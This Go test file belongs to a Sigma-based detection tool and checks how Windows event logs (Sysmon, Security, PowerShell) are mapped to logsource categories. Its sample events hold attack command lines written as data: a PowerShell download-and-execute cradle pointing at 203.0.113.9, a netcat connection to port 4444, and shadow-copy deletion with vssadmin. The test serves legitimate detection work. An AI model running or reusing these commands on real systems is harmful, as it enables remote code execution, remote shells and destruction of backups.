package winlog

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"go.yaml.in/yaml/v3"

	"tocsin/internal/event"
	"tocsin/internal/input"
	"tocsin/internal/parse/jsonlog"
)

var regressionRoot = filepath.Join("..", "..", "..", "shared", "sigma", "regression")

// decodeAll splits a file into records and decodes each into an event.
func decodeAll(t testing.TB, path string) []*event.Event {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sp := input.NewSplitter(f, path, input.Options{})
	d := jsonlog.NewDecoder()
	var out []*event.Event
	for {
		rec, err := sp.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		ev := event.New()
		if err := d.Decode(rec.Data, ev); err != nil {
			t.Fatalf("%s:%d: %v", path, rec.Line, err)
		}
		out = append(out, ev.Clone()) // Clone: the decoder reuses its buffer
	}
}

func get(ev *event.Event, name string) string {
	v, _ := ev.Get(name)
	return v
}

func TestDefault(t *testing.T) {
	m := Default()
	if len(m.shapes) != 3 || m.Service("Security") != "security" {
		t.Fatalf("default mapping: %d shapes, Security -> %q", len(m.shapes), m.Service("Security"))
	}
	if !bytes.Equal(DefaultMapping(), defaultMapping) {
		t.Error("DefaultMapping differs from the embedded file")
	}
}

// sysmonCategory is what each Sysmon event id must give (thor.yml).
var sysmonCategory = map[string]string{
	"1": "process_creation", "2": "file_change", "3": "network_connection", "4": "sysmon_status",
	"5": "process_termination", "6": "driver_load", "7": "image_load", "8": "create_remote_thread",
	"9": "raw_access_thread", "10": "process_access", "11": "file_event", "13": "registry_set",
	"14": "registry_rename", "15": "create_stream_hash", "16": "sysmon_status", "17": "pipe_created",
	"18": "pipe_created", "19": "wmi_event", "20": "wmi_event", "21": "wmi_event", "22": "dns_query",
	"23": "file_delete", "24": "clipboard_change", "25": "process_tampering", "26": "file_delete_detected",
	"27": "file_block_executable", "28": "file_block_shredding", "29": "file_executable_detected",
	"255": "sysmon_error",
}

// TestRegression maps every event of SigmaHQ's regression data: each gets
// product windows and a service, Sysmon events their category, and the
// rule each file was made for applies to at least one of its events.
func TestRegression(t *testing.T) {
	if _, err := os.Stat(regressionRoot); err != nil {
		t.Skip("no regression data:", err)
	}
	m := Default()
	rules := ruleIndex(t)
	var files, events int
	err := filepath.WalkDir(regressionRoot, func(path string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(path) != ".json" {
			return err
		}
		files++
		rel, _ := filepath.Rel(regressionRoot, path)
		t.Run(rel, func(t *testing.T) {
			rule := ruleLogsource(t, rules, path)
			applies := false
			for _, ev := range decodeAll(t, path) {
				events++
				if !m.Apply(ev) {
					t.Fatalf("not recognised as a Windows event")
				}
				ls := ev.Logsource
				if ls.Product != "windows" || ls.Service == "" {
					t.Errorf("logsource %+v: want product windows and a service", ls)
				}
				for _, f := range []string{"EventID", "Channel", "Computer", "Provider_Name", "EventRecordID"} {
					if get(ev, f) == "" {
						t.Errorf("no %s field", f)
					}
				}
				if ev.Host == "" || ev.Time.IsZero() || ev.Host != get(ev, "Computer") {
					t.Errorf("host %q time %v", ev.Host, ev.Time)
				}
				if get(ev, "Channel") == "Microsoft-Windows-Sysmon/Operational" {
					id := get(ev, "EventID")
					want := sysmonCategory[id]
					if id == "12" {
						want = map[string]string{"CreateKey": "registry_add", "DeleteKey": "registry_delete",
							"DeleteValue": "registry_delete"}[get(ev, "EventType")]
					}
					if ls.Service != "sysmon" || ls.Category != want || want == "" {
						t.Errorf("Sysmon %s: logsource %+v, want category %q", id, ls, want)
					}
					key := map[string]string{"4": "State", "16": "Configuration", "10": "SourceImage"}[id]
					if key == "" {
						key = "Image"
					}
					if get(ev, key) == "" {
						t.Errorf("Sysmon %s: no %s field", id, key)
					}
				}
				if rule.matches(m, ls) {
					applies = true
				}
			}
			if !applies {
				t.Errorf("the rule's logsource %+v applies to none of the events", rule)
			}
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if files != 202 || events != 238 {
		t.Errorf("%d files, %d events: want 202 and 238", files, events)
	}
}

// logsource is a rule's logsource section.
type logsource struct{ Product, Category, Service string }

// matches applies GUIDE.md's rule: every key the rule names equals the
// event's, a category also matching through CategoryParents.
func (r logsource) matches(m *Mapper, ls event.Logsource) bool {
	if r.Product != "" && r.Product != ls.Product || r.Service != "" && r.Service != ls.Service {
		return false
	}
	if r.Category == "" || r.Category == ls.Category {
		return true
	}
	for _, p := range m.CategoryParents(ls.Category) {
		if p == r.Category {
			return true
		}
	}
	return false
}

// ruleIndex maps rule ids to rule files across SigmaHQ's rule folders. A
// regression file is named after the id of the rule it tests.
func ruleIndex(t *testing.T) map[string]string {
	idx := map[string]string{}
	sigma := filepath.Join(regressionRoot, "..")
	dirs, _ := filepath.Glob(filepath.Join(sigma, "rules*"))
	for _, dir := range dirs {
		filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() || filepath.Ext(path) != ".yml" {
				return err
			}
			data, err := os.ReadFile(path)
			if err != nil {
				return err
			}
			for _, line := range strings.Split(string(data), "\n") {
				if id, ok := strings.CutPrefix(line, "id: "); ok {
					idx[strings.TrimSpace(id)] = path
					break
				}
			}
			return nil
		})
	}
	if len(idx) < 3000 {
		t.Fatalf("only %d rules found under %s", len(idx), sigma)
	}
	return idx
}

// ruleLogsource reads the logsource of the rule a regression file tests.
func ruleLogsource(t *testing.T, rules map[string]string, path string) logsource {
	id := strings.TrimSuffix(filepath.Base(path), ".json")
	data, err := os.ReadFile(rules[id])
	if err != nil {
		t.Fatalf("rule %s of %s: %v", id, path, err)
	}
	var r struct {
		Logsource logsource `yaml:"logsource"`
	}
	if err := yaml.Unmarshal(data, &r); err != nil {
		t.Fatalf("rule of %s: %v", path, err)
	}
	return r.Logsource
}

// TestSamples maps hand-written events of each shape under testdata/.
func TestSamples(t *testing.T) {
	type want struct {
		ls     event.Logsource
		host   string
		time   string
		fields map[string]string // name → first value ("" : must be absent)
		values map[string]int    // name → number of values
	}
	tests := []struct {
		file string
		want want
	}{
		{"winlogbeat-sysmon-process.json", want{
			ls:   event.Logsource{Product: "windows", Category: "process_creation", Service: "sysmon"},
			host: "WS01.corp.example", time: "2024-03-01T10:00:00.123Z",
			fields: map[string]string{"EventID": "1", "Channel": "Microsoft-Windows-Sysmon/Operational",
				"Image": `C:\Windows\System32\cmd.exe`, "CommandLine": "cmd.exe /c whoami /priv",
				"ParentImage": `C:\Windows\explorer.exe`, "Provider_Name": "Microsoft-Windows-Sysmon",
				"Computer": "WS01.corp.example", "Execution_ProcessID": "3208", "Execution_ThreadID": "1724",
				"Security_UserID": "S-1-5-18", "EventRecordID": "86918", "User": `CORP\alice`},
			// event_data has these: the ECS fallbacks must not add a second value
			values: map[string]int{"EventID": 1, "CommandLine": 1, "Image": 1, "ProcessId": 1},
		}},
		{"winlogbeat-security-4688.json", want{
			ls:   event.Logsource{Product: "windows", Category: "process_creation", Service: "security"},
			host: "SRV-MAIRIE.ville.example", time: "2024-03-01T11:00:00Z",
			fields: map[string]string{"EventID": "4688", "Image": `C:\Windows\System32\vssadmin.exe`,
				"ParentImage": `C:\Windows\System32\cmd.exe`, "CommandLine": "vssadmin delete shadows /all /quiet",
				"NewProcessName": `C:\Windows\System32\vssadmin.exe`},
		}},
		{"winlogbeat-ecs-only.json", want{
			ls:   event.Logsource{Product: "windows", Category: "network_connection", Service: "sysmon"},
			host: "ws02", time: "2024-03-01T12:00:00Z",
			fields: map[string]string{"EventID": "3", "Provider_Name": "Microsoft-Windows-Sysmon",
				"Image": `C:\Tools\nc.exe`, "CommandLine": "nc.exe 203.0.113.9 4444",
				"DestinationIp": "203.0.113.9", "DestinationPort": "4444"},
			values: map[string]int{"Image": 1},
		}},
		{"nxlog-sysmon-registry.json", want{
			ls:   event.Logsource{Product: "windows", Category: "registry_add", Service: "sysmon"},
			host: "WS03.ville.example", time: "2024-03-01T09:15:02Z",
			fields: map[string]string{"Provider_Name": "Microsoft-Windows-Sysmon", "Computer": "WS03.ville.example",
				"Execution_ProcessID": "3208", "EventRecordID": "4242", "Security_UserID": "S-1-5-18",
				"TargetObject": `HKLM\SAM\SAM\Domains\Account\Users\Names\hidden$`},
			values: map[string]int{"EventType": 2}, // NXLog's own EventType and Sysmon's
		}},
		{"nxlog-powershell-4104.json", want{
			ls:   event.Logsource{Product: "windows", Category: "ps_script", Service: "powershell"},
			host: "WS03.ville.example", time: "2024-03-01T09:20:00Z",
			fields: map[string]string{"ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"},
		}},
		{"evtx-powershell-classic-400.json", want{
			ls:   event.Logsource{Product: "windows", Category: "ps_classic_start", Service: "powershell-classic"},
			host: "ws04", time: "2024-03-01T08:00:00.5Z",
			fields: map[string]string{"EventID": "400", "EventID_Qualifiers": "0", "Provider_Name": "PowerShell",
				"Data": "Available", "Security": ""},
			values: map[string]int{"Data": 3, "EventID": 1},
		}},
		{"evtx-system-userdata.json", want{
			ls:   event.Logsource{Product: "windows", Service: "system"},
			host: "srv-dc01", time: "2024-03-01T07:00:00Z",
			fields: map[string]string{"EventID": "7045", "Provider_Name": "Service Control Manager",
				"Provider_EventSourceName": "Service Control Manager", "Security_UserID": "S-1-5-21-1-2-3-500",
				"Custom_Extra": "x", "ServiceName": "PSEXESVC", "ImagePath": `%SystemRoot%\PSEXESVC.exe`,
				"Details.StartType": "demand start"},
			values: map[string]int{"xmlns": 0, "#attributes.xmlns": 0},
		}},
	}
	m := Default()
	for _, tt := range tests {
		t.Run(tt.file, func(t *testing.T) {
			evs := decodeAll(t, filepath.Join("testdata", tt.file))
			if len(evs) != 1 {
				t.Fatalf("%d events", len(evs))
			}
			ev := evs[0]
			if !m.Apply(ev) {
				t.Fatal("not recognised")
			}
			if ev.Logsource != tt.want.ls {
				t.Errorf("logsource %+v, want %+v", ev.Logsource, tt.want.ls)
			}
			if ev.Host != tt.want.host {
				t.Errorf("host %q, want %q", ev.Host, tt.want.host)
			}
			if got := ev.Time.Format(time.RFC3339Nano); got != tt.want.time {
				t.Errorf("time %s, want %s", got, tt.want.time)
			}
			for name, v := range tt.want.fields {
				if got, ok := ev.Get(name); !ok || got != v {
					t.Errorf("%s = %q (present %v), want %q", name, got, ok, v)
				}
			}
			for name, n := range tt.want.values {
				got := 0
				for i := ev.Lookup(name); i >= 0; i = ev.Next(i) {
					got++
				}
				if got != n {
					t.Errorf("%s has %d values, want %d", name, got, n)
				}
			}
		})
	}
}

// flat builds a flat (NXLog-shaped) event.
func flat(kv ...string) *event.Event {
	ev := event.New()
	for i := 0; i+1 < len(kv); i += 2 {
		ev.Add(kv[i], kv[i+1], event.String)
	}
	return ev
}

func ls(product, category, service string) event.Logsource {
	return event.Logsource{Product: product, Category: category, Service: service}
}

func TestLogsource(t *testing.T) {
	const sysmon = "Microsoft-Windows-Sysmon/Operational"
	tests := []struct {
		name string
		ev   *event.Event
		want event.Logsource
	}{
		{"sysmon 12 create", flat("Channel", sysmon, "EventID", "12", "EventType", "CreateKey"), ls("windows", "registry_add", "sysmon")},
		{"sysmon 12 delete value", flat("Channel", sysmon, "EventID", "12", "EventType", "deletevalue"), ls("windows", "registry_delete", "sysmon")},
		{"sysmon 12 other", flat("Channel", sysmon, "EventID", "12"), ls("windows", "registry_event", "sysmon")},
		{"sysmon 13", flat("Channel", sysmon, "EventID", "13"), ls("windows", "registry_set", "sysmon")},
		{"sysmon unknown id", flat("Channel", sysmon, "EventID", "99"), ls("windows", "", "sysmon")},
		{"channel case", flat("Channel", "microsoft-windows-sysmon/operational", "EventID", "22"), ls("windows", "dns_query", "sysmon")},
		{"event id 1 elsewhere is no process creation", flat("Channel", "Application", "EventID", "1"), ls("windows", "", "application")},
		{"powershell core", flat("Channel", "PowerShellCore/Operational", "EventID", "4103"), ls("windows", "ps_module", "powershell")},
		{"classic powershell 800", flat("Channel", "Windows PowerShell", "EventID", "800"), ls("windows", "ps_classic_script", "powershell-classic")},
		{"defender", flat("Channel", "Microsoft-Windows-Windows Defender/Operational", "EventID", "1116"), ls("windows", "antivirus", "windefend")},
		{"unknown channel", flat("Channel", "ForwardedEvents", "EventID", "4624"), ls("windows", "", "")},
		{"bad event id", flat("Channel", "Security", "EventID", "x4688"), ls("windows", "", "security")},
	}
	m := Default()
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if !m.Apply(tt.ev) {
				t.Fatal("not recognised")
			}
			if tt.ev.Logsource != tt.want {
				t.Errorf("logsource %+v, want %+v", tt.ev.Logsource, tt.want)
			}
		})
	}
}

func TestApplyKeepsWhatIsSet(t *testing.T) {
	ev := flat("Channel", "Security", "EventID", "4688", "Computer", "c", "EventTime", "2024-01-01 00:00:00",
		"NewProcessName", "a.exe", "Image", "own.exe")
	ev.Logsource = event.Logsource{Category: "mine"}
	ev.Host = "h"
	ev.Time = time.Unix(1, 0)
	Default().Apply(ev)
	if ev.Logsource != (ls("windows", "mine", "security")) || ev.Host != "h" || !ev.Time.Equal(time.Unix(1, 0)) {
		t.Errorf("overwrote: %+v %q %v", ev.Logsource, ev.Host, ev.Time)
	}
	if get(ev, "Image") != "own.exe" {
		t.Errorf("Image = %q", get(ev, "Image"))
	}
}

func TestNotWindows(t *testing.T) {
	for _, ev := range []*event.Event{
		flat("message", "sshd[1]: Failed password"),
		flat("EventID", "1"), // no channel
		flat("winlog.event_id", "1"),
		flat("Event.System.EventID", "4624"), // evtx_dump always has a channel
	} {
		before := ev.Len()
		if Default().Apply(ev) || ev.Len() != before || ev.Logsource != (event.Logsource{}) {
			t.Errorf("changed a non-Windows event: %d fields %+v", ev.Len(), ev.Logsource)
		}
	}
}

func TestPatterns(t *testing.T) {
	root := &node{}
	for _, p := range [][2]string{
		{"A.*", "$1"},
		{"A.B", "lit"},
		{"A.*.#attr.*", "$1_$2"},
		{"A.X.#attr.Name", "X_Name"},
		{"U.*.**", "$2"},
		{"U.*.#attr.*", ""},
		{"P.*.*", "pre-$2-$1"},
	} {
		if err := root.add(p[0], p[1]); err != nil {
			t.Fatal(err)
		}
	}
	tests := []struct{ name, want string }{
		{"A.C", "C"},
		{"A.B", "lit"},
		{"A.B.#attr.Z", "B_Z"},
		{"A.X.#attr.Name", "X_Name"},
		{"A.X.#attr.Other", "X_Other"},
		{"A", "<none>"},
		{"A.C.D", "<none>"},
		{"U.w.f", "f"},
		{"U.w.f.g.h", "f.g.h"},
		{"U.w.#attr.xmlns", "<unmapped>"},
		{"U.w", "<none>"},
		{"P.a.b", "pre-b-a"},
		{"", "<none>"},
		{"A.", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m := matcher{name: tt.name}
			got := "<none>"
			if tp := root.match(&m); tp != nil {
				got = "<unmapped>"
				if !tp.unmapped {
					got = tp.render(&m)
				}
			}
			if got != tt.want {
				t.Errorf("%q -> %q, want %q", tt.name, got, tt.want)
			}
		})
	}
}

func TestLoadErrors(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"empty", "", "1:1: empty mapping file"},
		{"syntax", "shapes: [\n", "1:1: did not find expected node content"},
		{"syntax line 2", "shapes:\n  x: y\n   z: 1\n", "3:1: mapping values are not allowed in this context"},
		{"unknown top key", "shapes: []\nservice: []\n", `2:1: mapping file: unknown key "service" (known: category_parents, services, shapes)`},
		{"unknown shape key", "shapes:\n  - name: x\n    detect: [a]\n    feilds: {}\n", `4:5: shape: unknown key "feilds"`},
		{"repeated key", "shapes: []\nshapes: []\n", `2:1: mapping file: "shapes" given twice`},
		{"shape without detect", "shapes:\n  - name: x\n", "2:5: shape x: detect is required"},
		{"bad pattern", "shapes:\n  - name: x\n    detect: [a]\n    fields:\n      a.b*: $1\n", `5:7: pattern "a.b*": * stands for a whole segment`},
		{"bad capture", "shapes:\n  - name: x\n    detect: [a]\n    fields:\n      a.*: $2\n", `5:7: pattern "a.*": target "$2": $2 does not name one of the 1 wildcards`},
		{"fallback wildcard", "shapes:\n  - name: x\n    detect: [a]\n    fallback:\n      a.*: b\n", "5:7: fallback: exact names only, no wildcard"},
		{"bad event id", "services:\n  - service: s\n    channels: [C]\n    categories:\n      - {category: c, event_ids: [1, x]}\n", `5:38: event_ids: "x" is not an event id (0-65535)`},
		{"upper-case service", "services:\n  - service: Sysmon\n    channels: [C]\n", `2:5: service "Sysmon": Sigma names are lower case`},
		{"channel twice", "services:\n  - service: a\n    channels: [C]\n  - service: b\n    channels: [c]\n", `5:16: channel "c" already belongs to service a`},
		{"service twice", "services:\n  - service: a\n    channels: [C]\n  - service: a\n    channels: [D]\n", `4:5: service "a" given twice`},
		{"no channels", "services:\n  - service: a\n", "2:5: service a: channels is required"},
		{"category key", "services:\n  - service: a\n    channels: [C]\n    categories:\n      - {category: c, event_id: [1]}\n", `5:23: category: unknown key "event_id"`},
		{"two documents", "shapes: []\n---\nshapes: []\n", "2:1: a mapping file holds one YAML document"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := Load(strings.NewReader(tt.in))
			if err == nil {
				t.Fatal("no error")
			}
			var le *LoadError
			if !errors.As(err, &le) {
				t.Errorf("%v is not a *LoadError", err)
			}
			if !strings.HasPrefix(err.Error(), tt.want) {
				t.Errorf("error:\n%v\nwant it to start with:\n%s", err, tt.want)
			}
		})
	}
}

func TestExtend(t *testing.T) {
	ext := `
shapes:
  - name: flat
    detect: [EventID, Channel, Hostname]
    fields:
      Hostname: Computer
      Message: Details
    host: [Hostname]
services:
  - service: sysmon
    categories:
      - {category: process_creation_custom, event_ids: [1], when: {RuleName: custom}}
  - service: mylog
    channels: [MyApp/Operational, Application]
    categories:
      - {category: my_category, event_ids: [7]}
category_parents:
  process_creation_custom: process_creation
`
	m, err := Default().Extend(strings.NewReader(ext))
	if err != nil {
		t.Fatal(err)
	}
	ev := flat("Channel", "Microsoft-Windows-Sysmon/Operational", "EventID", "1", "RuleName", "custom", "Hostname", "h", "Message", "m", "SourceName", "s")
	m.Apply(ev)
	if ev.Logsource.Category != "process_creation_custom" || get(ev, "Details") != "m" || get(ev, "Provider_Name") != "" {
		t.Errorf("extended shape/category not used: %+v Details=%q Provider_Name=%q", ev.Logsource, get(ev, "Details"), get(ev, "Provider_Name"))
	}
	if p := m.CategoryParents("process_creation_custom"); len(p) != 1 || p[0] != "process_creation" {
		t.Errorf("parents %v", p)
	}
	ev = flat("Channel", "Microsoft-Windows-Sysmon/Operational", "EventID", "1", "Hostname", "h")
	m.Apply(ev)
	if ev.Logsource.Category != "process_creation" {
		t.Errorf("built-in category lost: %+v", ev.Logsource)
	}
	if m.Service("MyApp/Operational") != "mylog" || m.Service("application") != "mylog" || m.Service("System") != "system" {
		t.Errorf("services: %q %q %q", m.Service("MyApp/Operational"), m.Service("application"), m.Service("System"))
	}
	if Default().Service("Application") != "application" {
		t.Error("Extend changed the mapper it extended")
	}
	if _, err := Default().Extend(strings.NewReader("shapes: [oops]\n")); err == nil {
		t.Error("bad extension accepted")
	}
}

// TestApplyAllocs: decoding and mapping a reused event allocates nothing
// once buffers have grown.
func TestApplyAllocs(t *testing.T) {
	data := regressionEvent(t)
	m := Default()
	d := jsonlog.NewDecoder()
	ev := event.New()
	n := testing.AllocsPerRun(100, func() {
		if err := d.Decode(data, ev); err != nil {
			t.Fatal(err)
		}
		m.Apply(ev)
	})
	if n != 0 {
		t.Errorf("%v allocations per event", n)
	}
}

func regressionEvent(t testing.TB) []byte {
	p := filepath.Join(regressionRoot, "rules", "windows", "process_creation",
		"proc_creation_win_susp_eventlog_content_recon", "beaa66d6-aa1b-4e3c-80f5-e0145369bfaf.json")
	data, err := os.ReadFile(p)
	if err != nil {
		t.Skip("no regression data:", err)
	}
	return data
}

// BenchmarkDecodeApply is the per-event cost of a Sysmon process creation
// from evtx_dump: jsonlog decode, then Apply.
func BenchmarkDecodeApply(b *testing.B) {
	data := regressionEvent(b)
	m := Default()
	d := jsonlog.NewDecoder()
	ev := event.New()
	b.Run("decode", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := d.Decode(data, ev); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	})
	b.Run("decode+apply", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if err := d.Decode(data, ev); err != nil {
				b.Fatal(err)
			}
			m.Apply(ev)
		}
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	})
	b.Run("apply-not-windows", func(b *testing.B) {
		web := []byte(`{"@timestamp":"2024-05-01T10:00:00Z","host":"web-1","message":"GET / 200","http":{"status":200}}`)
		if err := d.Decode(web, ev); err != nil {
			b.Fatal(err)
		}
		b.ReportAllocs()
		for b.Loop() {
			m.Apply(ev)
		}
	})
}

// TestHostOwned: Host stays valid when the decoder's buffers are reused.
func TestHostOwned(t *testing.T) {
	m := Default()
	d := jsonlog.NewDecoder()
	ev := event.New()
	in := []byte(`{"EventID":1,"Channel":"System","Hostname":"pc-42"}`)
	if err := d.Decode(in, ev); err != nil {
		t.Fatal(err)
	}
	m.Apply(ev)
	host := ev.Host
	copy(in, bytes.Repeat([]byte("x"), len(in)))
	if host != "pc-42" {
		t.Errorf("host became %q", host)
	}
}

// TestNameMemo: names are mapped from the memo once seen, with the decoder
// reusing its buffers between events, past the memo's bound, and from
// several goroutines (run under -race by test.sh).
func TestNameMemo(t *testing.T) {
	m := Default()
	d := jsonlog.NewDecoder()
	apply := func(line string) *event.Event {
		ev := event.New()
		if err := d.Decode([]byte(line), ev); err != nil {
			t.Fatal(err)
		}
		if !m.Apply(ev) {
			t.Fatalf("not mapped: %s", line)
		}
		return ev
	}
	first := `{"Event":{"System":{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1},"EventData":{"Image":"a.exe","Threat Name":"x"}}}`
	// Other names where the first event's names were in the decoder's
	// buffer: a mapped name remembered as a slice of that buffer would
	// now read other bytes.
	second := `{"Event":{"System":{"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1},"EventData":{"Zzzzz":"1","Qqqqqqqqqqq":"2","Image":"b.exe"}}}`
	for i, tt := range []struct {
		line   string
		fields map[string]string
	}{
		{first, map[string]string{"Image": "a.exe", "ThreatName": "x", "Channel": "Microsoft-Windows-Sysmon/Operational"}},
		{second, map[string]string{"Image": "b.exe", "Zzzzz": "1", "Qqqqqqqqqqq": "2"}},
		{first, map[string]string{"Image": "a.exe", "ThreatName": "x"}},
		{second, map[string]string{"Image": "b.exe", "Zzzzz": "1"}},
	} {
		ev := apply(tt.line)
		for name, want := range tt.fields {
			if got, ok := ev.Get(name); !ok || got != want {
				t.Errorf("event %d: %s = %q (present %v), want %q", i, name, got, ok, want)
			}
		}
		if _, ok := ev.Get("Threat Name"); ok {
			t.Errorf("event %d: the mapped name kept its space", i)
		}
	}
	// Past the bound, names are still mapped, by the patterns.
	var b strings.Builder
	for i := 0; i < maxMemoNames+10; i++ {
		b.Reset()
		fmt.Fprintf(&b, `{"Event":{"System":{"Channel":"System","EventID":7045},"EventData":{"F%d":"v%d"}}}`, i, i)
		ev := apply(b.String())
		if got := get(ev, fmt.Sprintf("F%d", i)); got != fmt.Sprintf("v%d", i) {
			t.Fatalf("name %d of a stream of distinct names: F%d = %q", i, i, got)
		}
	}
	if n := len(*m.shapes[0].memo.m.Load()); n > maxMemoNames {
		t.Errorf("memo holds %d names, bound %d", n, maxMemoNames)
	}
	// Concurrent Apply on one Mapper.
	var wg sync.WaitGroup
	errs := make(chan string, 4)
	for g := 0; g < 4; g++ {
		wg.Go(func() {
			d := jsonlog.NewDecoder()
			for i := 0; i < 200; i++ {
				ev := event.New()
				line := fmt.Sprintf(`{"Event":{"System":{"Channel":"Security","EventID":4625},"EventData":{"G%d_%d":"v","IpAddress":"10.0.0.%d"}}}`, g, i%50, i%250)
				if err := d.Decode([]byte(line), ev); err != nil {
					errs <- err.Error()
					return
				}
				m.Apply(ev)
				if get(ev, fmt.Sprintf("G%d_%d", g, i%50)) != "v" || get(ev, "IpAddress") != fmt.Sprintf("10.0.0.%d", i%250) {
					errs <- "wrong mapping under concurrency: " + line
					return
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Error(e)
	}
}
